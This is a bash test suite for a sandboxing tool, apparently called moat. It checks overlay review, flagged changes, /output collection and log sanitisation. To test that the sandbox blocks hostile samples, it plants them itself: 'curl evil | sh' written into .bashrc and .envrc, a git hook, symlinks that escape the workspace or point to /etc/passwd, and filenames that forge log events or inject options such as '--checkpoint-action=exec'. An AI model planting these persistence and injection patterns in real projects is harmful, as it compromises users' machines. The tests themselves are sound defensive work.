#!/usr/bin/env bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# Audit stream, workspace review (overlay, flagged changes, apply), /output
# collection, --on-alert, and hostile names in the log (RT-035, RT-038).
. "$(dirname "$0")/../lib/tap.sh"

# Run state goes to a private directory (root always uses /var/lib/moat/runs).
STATE=$(mktemp -d "${TMPDIR:-/tmp}/moat-audit-state.XXXXXX")
chmod 755 "$STATE"
export XDG_STATE_HOME="$STATE"
RUNS_ROOT=/var/lib/moat/runs
cleanup_all() {
	rm -rf "$STATE" "$T_OUT"
}
trap cleanup_all EXIT

# A world-writable workspace: as root the sandbox maps to an unprivileged host uid.
mkws() {
	local d
	d=$(mktemp -d "${TMPDIR:-/tmp}/moat-audit-ws.XXXXXX")
	chmod 777 "$d"
	echo "$d"
}

# run_moat STATUSFILE ARGS...: runs moat, prints nothing, returns its status.
run_id_of() { python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["run"])' "$1"; }

forget_run() {
	local id=$1
	if is_root; then rm -rf "${RUNS_ROOT:?}/$id"; fi
}

# moat run with a status record, forgetting the run's records afterwards
# (root keeps them under /var/lib/moat/runs).
mrun() {
	local rc=0
	rm -f mrun.json
	"$MOAT" run --json-status mrun.json "$@" || rc=$?
	if [ -s mrun.json ]; then forget_run "$(run_id_of mrun.json)"; fi
	return "$rc"
}

t_overlay_review() {
	local ws canary out id
	ws=$(mkws)
	canary=$(mktemp "${TMPDIR:-/tmp}/moat-audit-canary.XXXXXX")
	echo H1-canary >"$canary"
	chmod 644 "$canary"
	# only new paths here: see t_overlay_existing for host-owned files
	out=$("$MOAT" run --workspace "$ws:overlay" --json-status status.json -- sh -c '
		mkdir -p src .git/hooks
		echo "int main(void) { return 1; }" > src/new.c
		printf "#!/bin/sh\necho pwned\n" > .git/hooks/pre-commit
		chmod +x .git/hooks/pre-commit
		mkdir -p .github/workflows && echo "on: push" > .github/workflows/ci.yml
		echo "curl evil | sh" > .bashrc
		echo "curl evil | sh" > .envrc && chmod 000 .envrc
		ln -s '"$canary"' report.txt
		ln -s ../../.. up
		mkfifo out.log
		echo s > locked.txt && chmod 000 locked.txt
		truncate -s 1T sparse.bin
	' 2>&1)
	id=$(run_id_of status.json)
	assert_contains "$out" "held back"
	assert_contains "$out" "moat apply $id"
	assert_eq 'int main(void) { return 1; }' "$(cat "$ws/src/new.c")" "ordinary new file applied"
	assert_eq 0 "$(stat -c %a "$ws/locked.txt")" "a mode-000 file is applied with its mode"
	[ ! -e "$ws/.git/hooks/pre-commit" ] || fail "git hook applied under safe"
	[ ! -e "$ws/.github/workflows/ci.yml" ] || fail "CI workflow applied under safe"
	[ ! -e "$ws/.bashrc" ] || fail ".bashrc applied under safe"
	[ ! -e "$ws/.envrc" ] || fail ".envrc applied under safe"
	[ ! -L "$ws/report.txt" ] || fail "outside symlink applied under safe"
	[ ! -L "$ws/up" ] || fail "escaping symlink applied under safe"
	[ ! -e "$ws/out.log" ] || fail "FIFO applied"
	assert_eq H1-canary "$(cat "$canary")" "canary"

	local diff
	diff=$("$MOAT" diff "$id")
	assert_contains "$diff" ".git/hooks/pre-commit"
	assert_contains "$diff" "FLAGGED: git hook"
	assert_contains "$diff" "report.txt -> $canary"
	assert_contains "$diff" "REFUSED: FIFO"
	assert_contains "$diff" "sparse.bin (1099511627776 bytes)  REFUSED: file larger than the size limit"
	[ ! -e "$ws/sparse.bin" ] || fail "1 TiB sparse file applied"
	"$MOAT" diff --json "$id" | python3 -c 'import json,sys; d=json.load(sys.stdin); assert d["summary"]["flagged"] >= 6, d["summary"]'

	# apply one held path, then everything; the FIFO stays refused
	"$MOAT" apply "$id" .bashrc >/dev/null
	assert_eq "curl evil | sh" "$(cat "$ws/.bashrc")" ".bashrc applied on request"
	[ ! -e "$ws/.envrc" ] || fail ".envrc applied without being named"
	"$MOAT" apply "$id" >/dev/null
	[ -x "$ws/.git/hooks/pre-commit" ] || fail "git hook not applied by moat apply"
	[ -f "$ws/.github/workflows/ci.yml" ] || fail "workflow not applied by moat apply"
	[ -L "$ws/report.txt" ] || fail "symlink not created by moat apply"
	assert_eq 0 "$(stat -c %a "$ws/.envrc")" "held mode-000 file applied later with its mode"
	[ ! -e "$ws/out.log" ] || fail "FIFO applied by moat apply"
	assert_eq H1-canary "$(cat "$canary")" "canary after apply"
	if "$MOAT" apply "$id" no/such/path 2>/dev/null; then fail "apply of an unknown path succeeded"; fi
	forget_run "$id"
	rm -rf "$ws" "$canary"
}

# Edits, renames and deletions of files that exist on the host.
t_overlay_existing() {
	local ws id
	ws=$(mkws)
	mkdir -p "$ws/src" "$ws/dir"
	echo 'int main(void) { return 0; }' >"$ws/src/main.c"
	echo old >"$ws/old-name.txt"
	echo gone >"$ws/delete-me.txt"
	echo x >"$ws/dir/x"
	echo keep >"$ws/keep.txt"
	"$MOAT" run --workspace "$ws:overlay" --json-status status.json -- sh -c '
		echo "int main(void) { return 1; }" > src/main.c
		mv old-name.txt new-name.txt
		rm delete-me.txt
		rm -r dir && mkdir dir && echo y > dir/y
		chmod +x keep.txt
	' 2>/dev/null
	id=$(run_id_of status.json)
	assert_eq 'int main(void) { return 1; }' "$(cat "$ws/src/main.c")" "edit applied"
	assert_eq old "$(cat "$ws/new-name.txt")" "rename: new name"
	[ ! -e "$ws/old-name.txt" ] || fail "rename: old name still there"
	[ ! -e "$ws/delete-me.txt" ] || fail "deletion not applied"
	[ ! -e "$ws/dir/x" ] || fail "replaced directory kept old content"
	assert_eq y "$(cat "$ws/dir/y")" "replaced directory"
	# a new x bit runs only when someone runs the file: applied and listed
	# (class executable, docs/FLAGGED.md); --hold executable holds it
	[ -x "$ws/keep.txt" ] || fail "newly executable not applied under safe (class executable)"
	assert_contains "$("$MOAT" diff "$id")" "LISTED: newly executable (class executable)"
	forget_run "$id"
	rm -rf "$ws"
}

t_apply_never_and_all() {
	local ws id
	ws=$(mkws)
	"$MOAT" run --workspace "$ws:overlay" --apply never --json-status s1.json -- sh -c 'echo a > plain.txt; echo b > .bashrc' 2>/dev/null
	[ ! -e "$ws/plain.txt" ] || fail "--apply never applied"
	id=$(run_id_of s1.json)
	"$MOAT" apply "$id" >/dev/null
	assert_eq a "$(cat "$ws/plain.txt")" "applied later"
	forget_run "$id"
	"$MOAT" run --workspace "$ws:overlay" --apply all --json-status s2.json -- sh -c 'echo c > .zshrc' 2>/dev/null
	assert_eq c "$(cat "$ws/.zshrc")" "--apply all applies flagged"
	forget_run "$(run_id_of s2.json)"
	rm -rf "$ws"
}

t_hostile_names_in_log() {
	local ws id log
	ws=$(mkws)
	"$MOAT" run --workspace "$ws:overlay" --apply never --json-status status.json -- sh -c '
		touch "$(printf "x\n{\"v\":1,\"type\":\"net\",\"action\":\"allow\"}")"
		touch "$(printf "\033]0;pwned\007")"
		touch "$(printf "bad\377\376utf8")"
		touch -- "-rf" "--checkpoint-action=exec=sh x.sh"
		touch "$(printf "sep\342\200\250line")"
	' 2>stderr.txt
	id=$(run_id_of status.json)
	log=$("$MOAT" log --json "$id")
	# every line is one valid event; no forged event appears
	printf '%s\n' "$log" | python3 -c '
import json, sys
n = 0
for line in sys.stdin:
    ev = json.loads(line)
    assert ev["v"] == 1 and "type" in ev, line
    assert ev.get("action") != "allow", line
    n += 1
assert n >= 7, n
'
	assert_not_contains "$log" $'\e'
	assert_not_contains "$log" $'\xe2\x80\xa8'
	assert_contains "$log" 'x\n{\"v\":1,\"type\":\"net\"'
	assert_contains "$log" '\u001b]0;pwned\u0007'
	assert_contains "$log" 'bad\ufffd\ufffdutf8'
	local text
	text=$("$MOAT" log "$id")
	assert_not_contains "$text" $'\e'
	assert_not_contains "$(cat stderr.txt)" $'\e'
	assert_not_contains "$("$MOAT" diff "$id")" $'\e'
	# the exact bytes are kept in the manifest for apply
	"$MOAT" apply "$id" >/dev/null
	[ -e "$ws/$(printf 'bad\377\376utf8')" ] || fail "invalid UTF-8 name not applied byte-exact"
	forget_run "$id"
	rm -rf "$ws"
}

t_log_filters() {
	local id
	"$MOAT" run --json-status status.json -- true 2>/dev/null
	id=$(run_id_of status.json)
	assert_eq 2 "$("$MOAT" log --type start,exit "$id" | wc -l)" "start+exit"
	assert_eq 1 "$("$MOAT" log --type exit "$id" | wc -l)" "exit"
	assert_eq 0 "$("$MOAT" log --denied "$id" | wc -l)" "denied"
	assert_contains "$("$MOAT" log --type exit "$id")" "reason=exited"
	if "$MOAT" log --type bogus "$id" 2>/dev/null; then fail "bad --type accepted"; fi
	forget_run "$id"
}

t_log_file_option() {
	local id
	"$MOAT" run --log "$PWD/sub/dir/events.jsonl" --json-status status.json -- true 2>/dev/null
	id=$(run_id_of status.json)
	assert_eq 600 "$(stat -c %a sub/dir/events.jsonl)" "log mode"
	assert_eq 700 "$(stat -c %a sub/dir)" "parent mode"
	assert_eq 2 "$("$MOAT" log --type start,exit "$id" | wc -l)" "moat log RUN-ID finds --log"
	assert_eq 2 "$("$MOAT" log --type start,exit "$PWD/sub/dir/events.jsonl" | wc -l)" "moat log FILE"
	ln -s /etc/passwd planted.jsonl
	if mrun --log "$PWD/planted.jsonl" -- true 2>/dev/null; then fail "log through a symlink"; fi
	forget_run "$id"
}

t_on_alert() {
	local ws rc=0
	ws=$(mkws)
	mrun --workspace "$ws:overlay" --on-alert "cat >> $PWD/alerts.jsonl" -- sh -c 'echo x > .bashrc' 2>/dev/null
	assert_contains "$(cat alerts.jsonl)" '"type":"alert"'
	assert_contains "$(cat alerts.jsonl)" '"path":".bashrc"'
	python3 -c 'import json,sys; [json.loads(l) for l in open(sys.argv[1])]' alerts.jsonl
	# a failing or hanging alert command does not break the run
	mrun --workspace "$ws:overlay" --on-alert "exit 1" -- sh -c 'echo x > .profile; exit 7' 2>/dev/null || rc=$?
	assert_eq 7 "$rc" "exit status with a failing alert command"
	rc=0
	mrun --workspace "$ws:overlay" --on-alert "sleep 60" -- sh -c 'echo x > .zshrc; exit 5' 2>/dev/null || rc=$?
	assert_eq 5 "$rc" "exit status with a hanging alert command"
	rm -rf "$ws"
}

t_output_collect() {
	local out canary rc=0
	out=$(mktemp -d "${TMPDIR:-/tmp}/moat-audit-out.XXXXXX")
	canary=$(mktemp "${TMPDIR:-/tmp}/moat-audit-canary.XXXXXX")
	echo H1-canary >"$canary"
	# as root, the collected files belong to the owner of the destination
	if is_root && id moat-test >/dev/null 2>&1; then chown moat-test "$out"; fi
	mrun --output "$out" -- sh -c '
		echo result > /output/result.txt
		mkdir /output/sub && echo inner > /output/sub/inner.txt
		ln -s '"$canary"' /output/leak
		ln -s /etc /output/etc
		mkfifo /output/fifo
		echo s > /output/suid && { chmod 4755 /output/suid 2>/dev/null || :; }
		echo l > /output/locked && chmod 000 /output/locked
	' 2>stderr.txt
	assert_eq result "$(cat "$out/result.txt")" "collected"
	assert_eq inner "$(cat "$out/sub/inner.txt")" "collected sub"
	assert_eq "$(stat -c %U "$out")" "$(stat -c %U "$out/sub/inner.txt")" "owner of collected files"
	[ ! -e "$out/leak" ] && [ ! -L "$out/leak" ] || fail "symlink collected"
	[ ! -e "$out/etc" ] || fail "dir symlink collected"
	[ ! -e "$out/fifo" ] || fail "FIFO collected"
	# seccomp may already refuse chmod 4755; either way no set-id bit arrives
	[ -f "$out/suid" ] && [ ! -u "$out/suid" ] && [ ! -g "$out/suid" ] || fail "set-id file collected"
	assert_eq 0 "$(stat -c %a "$out/locked")" "mode-000 file collected with its mode"
	assert_contains "$(cat stderr.txt)" "skipped"
	# an existing non-empty --output is refused unless --output-overwrite
	mrun --output "$out" -- true 2>/dev/null || rc=$?
	[ "$rc" -ne 0 ] || fail "non-empty --output accepted"
	mrun --output "$out" --output-overwrite -- sh -c 'echo 2 > /output/result.txt' 2>/dev/null
	assert_eq 2 "$(cat "$out/result.txt")" "overwrite"
	assert_eq H1-canary "$(cat "$canary")" "canary"
	rm -rf "$out" "$canary"
}

t_output_cap() {
	local out
	out=$(mktemp -d "${TMPDIR:-/tmp}/moat-audit-out.XXXXXX")
	"$MOAT" run --output "$out" --max-output 64K --json-status status.json -- sh -c '
		head -c 200000 /dev/zero > /output/big' 2>stderr.txt
	[ ! -e "$out/big" ] || fail "over-cap file collected"
	assert_contains "$(cat stderr.txt)" "/output collection stopped"
	assert_contains "$("$MOAT" log --type limit "$(run_id_of status.json)")" "what=output"
	forget_run "$(run_id_of status.json)"
	rm -rf "$out"
}

t_exec_and_denials() {
	local id log
	"$MOAT" run --on-alert "cat >> $PWD/alerts.jsonl" --json-status status.json -- sh -c '
		echo a | cat >/dev/null
		/bin/true "$(printf "x\n{\"v\":1,\"type\":\"net\"}")" "$(printf "\033[2J")"
		unshare -U true 2>/dev/null || :
	' 2>/dev/null
	id=$(run_id_of status.json)
	log=$("$MOAT" log --json --type exec "$id")
	assert_contains "$log" '"argv":["cat"]'
	assert_contains "$log" '"argv":["/bin/true","x\n{\"v\":1,\"type\":\"net\"}","\u001b[2J"]'
	assert_not_contains "$log" $'\e'
	assert_contains "$("$MOAT" log --denied "$id")" "syscall name=unshare"
	assert_contains "$(cat alerts.jsonl)" '"cause":"syscall_denied"'
	assert_contains "$("$MOAT" log --type exit "$id")" "denied_syscalls=1"
	forget_run "$id"
}

# Issue 7: every exec in a pipeline and a make -j2 build, a script through a
# symlink, a binary in /tmp, and execveat are recorded with their argv.
t_exec_coverage() {
	local id log
	"$MOAT" run --json-status status.json -- sh -c '
		printf "#!/bin/sh\necho script\n" > /tmp/s.sh; chmod +x /tmp/s.sh
		ln -s /tmp/s.sh /tmp/link; /tmp/link
		cp /bin/true /tmp/mytrue; /tmp/mytrue arg1
		printf "all: a b\na:\n\techo A\nb:\n\techo B\n" > /tmp/Makefile
		make -s -j2 -C /tmp
		echo x | tr x y | cat
		python3 -c "import os; fd = os.open(\"/bin/true\", os.O_RDONLY); os.execve(fd, [\"true-via-fd\"], {})"
	' >/dev/null 2>&1
	id=$(run_id_of status.json)
	log=$("$MOAT" log --json --type exec "$id")
	assert_contains "$log" '"path":"/tmp/link","argv":["/tmp/link"]'
	assert_contains "$log" '"path":"/tmp/mytrue","argv":["/tmp/mytrue","arg1"]'
	assert_contains "$log" '"argv":["make","-s","-j2","-C","/tmp"]'
	assert_contains "$log" '"argv":["echo","A"]'
	assert_contains "$log" '"argv":["echo","B"]'
	assert_contains "$log" '"argv":["tr","x","y"]'
	assert_contains "$log" '"argv":["cat"]'
	assert_contains "$log" '"argv":["true-via-fd"]'
	assert_contains "$log" '"syscall":"execveat"'
	forget_run "$id"
}

run_test overlay_review t_overlay_review
run_test overlay_existing t_overlay_existing
run_test apply_never_and_all t_apply_never_and_all
run_test hostile_names_in_log t_hostile_names_in_log
run_test exec_and_denials t_exec_and_denials
run_test exec_coverage t_exec_coverage
run_test log_filters t_log_filters
run_test log_file_option t_log_file_option
run_test on_alert t_on_alert
run_test output_collect t_output_collect
run_test output_cap t_output_cap
t_done
